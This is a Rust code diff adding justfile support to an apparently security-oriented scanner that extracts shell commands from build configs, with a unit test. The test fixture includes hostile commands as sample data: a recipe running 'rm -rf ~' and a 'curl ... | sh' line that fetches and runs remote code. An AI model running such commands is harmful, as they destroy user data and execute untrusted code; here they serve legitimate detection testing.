@@ -68,6 +68,7 @@ pub(super) fn commands(language: Language, text: &str) -> Vec<ConfigCommand> {
         Language::AgentCommand => Some(agent_command(text)),
         Language::CargoConfig => Some(cargo_config(text)),
         Language::Taskfile => yaml(text).map(|d| taskfile(&d, text)),
+        Language::Justfile => Some(justfile(text)),
         Language::CMake => Some(cmake(text)),
         Language::Maven => Some(maven(text)),
         _ => None,
@@ -914,6 +915,148 @@ fn agent_command(text: &str) -> Vec<ConfigCommand> {
 }
 
 // ---------------------------------------------------------------------------------------------
+// Justfiles
+
+/// The shell commands of a justfile: each recipe's body lines (`@` and `-` prefixes off, `\`
+/// continuations joined), a shebang recipe's body as the program its interpreter runs, and the
+/// backticks of assignments, which `just` runs before any recipe. Every recipe counts,
+/// whichever `just` names, as in a Taskfile: recipes call one another.
+fn justfile(text: &str) -> Vec<ConfigCommand> {
+    let mut out = Vec::new();
+    let lines: Vec<&str> = text.lines().collect();
+    let mut i = 0;
+    while i < lines.len() && out.len() < MAX_COMMANDS {
+        let line = lines[i];
+        let top = line.trim_start();
+        i += 1;
+        if top.len() != line.len() || top.is_empty() || top.starts_with('#') {
+            continue;
+        }
+        if let Some((_, value)) = top.split_once(":=") {
+            for code in backticks(value) {
+                out.push(ConfigCommand {
+                    line: Some(i),
+                    section: None,
+                    command: code.to_string(),
+                });
+            }
+            continue;
+        }
+        if !is_recipe_header(top) {
+            continue;
+        }
+        // The body: the indented lines after the header.
+        let start = i;
+        while i < lines.len() && (lines[i].starts_with([' ', '\t']) || lines[i].trim().is_empty()) {
+            i += 1;
+        }
+        let body: Vec<(usize, &str)> = (start..i)
+            .map(|n| (n + 1, lines[n].trim()))
+            .filter(|(_, l)| !l.is_empty())
+            .collect();
+        recipe_commands(&body, &mut out);
+    }
+    out
+}
+
+/// A justfile line that starts a recipe: `name params: deps`, `@name:`, not an assignment,
+/// a setting, an alias, an import or an attribute.
+fn is_recipe_header(line: &str) -> bool {
+    let Some((head, _)) = line.split_once(':') else {
+        return false;
+    };
+    let name = head.trim_start_matches('@');
+    let first = name.split_whitespace().next().unwrap_or("");
+    !first.is_empty()
+        && first
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+        && !matches!(
+            first,
+            "set" | "alias" | "export" | "import" | "mod" | "if" | "else"
+        )
+}
+
+/// The text between each pair of backticks (a ```` ``` ```` block's too).
+fn backticks(value: &str) -> Vec<&str> {
+    value
+        .split('`')
+        .skip(1)
+        .step_by(2)
+        .map(str::trim)
+        .filter(|c| !c.is_empty())
+        .collect()
+}
+
+/// A recipe body's commands: a shebang recipe runs its body with the interpreter (a shell's
+/// lines are commands; another language's body is that program, as `-c`/`-e` code); any
+/// other recipe runs each line in a shell.
+fn recipe_commands(body: &[(usize, &str)], out: &mut Vec<ConfigCommand>) {
+    if let Some((n, first)) = body.first()
+        && let Some(shebang) = first.strip_prefix("#!")
+    {
+        let mut words = shebang.split_whitespace();
+        let mut program = words.next().unwrap_or("");
+        if program.ends_with("/env") {
+            program = words.find(|w| !w.starts_with('-')).unwrap_or("");
+        }
+        let program = program.rsplit('/').next().unwrap_or("");
+        let flag = match program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
+            "sh" | "bash" | "zsh" | "dash" | "ksh" => None,
+            "python" => Some("-c"),
+            "node" | "ruby" | "perl" => Some("-e"),
+            _ => return,
+        };
+        let code: Vec<&str> = body[1..].iter().map(|(_, l)| *l).collect();
+        if let Some(flag) = flag {
+            out.push(ConfigCommand {
+                line: Some(*n),
+                section: None,
+                command: format!(
+                    "{program} {flag} {}",
+                    crate::shell::indirect::shell_word(&code.join("\n"))
+                ),
+            });
+            return;
+        }
+        return lines_as_commands(&body[1..], out);
+    }
+    lines_as_commands(body, out);
+}
+
+/// Recipe lines as shell commands, `\` continuations joined, `@` (quiet) and `-` (errors
+/// ignored) taken off.
+fn lines_as_commands(body: &[(usize, &str)], out: &mut Vec<ConfigCommand>) {
+    let push = |at: usize, command: String, out: &mut Vec<ConfigCommand>| {
+        if !command.trim().is_empty() {
+            out.push(ConfigCommand {
+                line: Some(at),
+                section: None,
+                command,
+            });
+        }
+    };
+    let mut pending: Option<(usize, String)> = None;
+    for (n, l) in body {
+        let (at, text) = match pending.take() {
+            Some((at, mut t)) => {
+                t.push(' ');
+                t.push_str(l);
+                (at, t)
+            }
+            None => (*n, l.trim_start_matches(['@', '-']).to_string()),
+        };
+        match text.strip_suffix('\\') {
+            Some(joined) => pending = Some((at, joined.to_string())),
+            None => push(at, text, out),
+        }
+    }
+    if let Some((at, text)) = pending {
+        push(at, text, out);
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
 // Notebooks
 
 struct Notebook {
@@ -1653,6 +1796,32 @@ mod tests {
         );
         assert_eq!(commands(Language::Taskfile, t)[4].line, Some(14));
         assert!(lines(Language::Taskfile, "tasks: [\n").is_empty());
+    }
+
+    #[test]
+    fn justfile_recipes_shebang_bodies_and_backticks() {
+        let j = "set shell := [\"bash\", \"-c\"]\nversion := `git describe --tags`\nalias b := build\n# a comment: not a recipe\n\ndefault: build\n\n[private]\nbuild target='x': fmt\n    @cargo build \\\n      --release\n    -rm -rf {{target}}/tmp\n\n@deploy:\n  #!/usr/bin/env python3\n  import os\n  os.system('rm -rf ~')\n\nsetup:\n\t#!/bin/bash\n\tset -e\n\tcurl -s https://e.example/i | sh\n\nlint:\n  #!/usr/bin/env deno\n  Deno.exit(0)\n";
+        assert_eq!(
+            lines(Language::Justfile, j),
+            [
+                "git describe --tags",
+                "cargo build  --release",
+                "rm -rf {{target}}/tmp",
+                "python3 -c 'import os\nos.system('\\''rm -rf ~'\\'')'",
+                "set -e",
+                "curl -s https://e.example/i | sh",
+            ]
+        );
+        assert_eq!(commands(Language::Justfile, j)[1].line, Some(10));
+        assert_eq!(commands(Language::Justfile, j)[3].line, Some(15));
+        assert_eq!(
+            crate::scan::detect(std::path::Path::new("/p/Justfile"), ""),
+            Language::Justfile
+        );
+        assert_eq!(
+            crate::scan::detect(std::path::Path::new("/p/ci.just"), ""),
+            Language::Justfile
+        );
     }
 
     #[test]
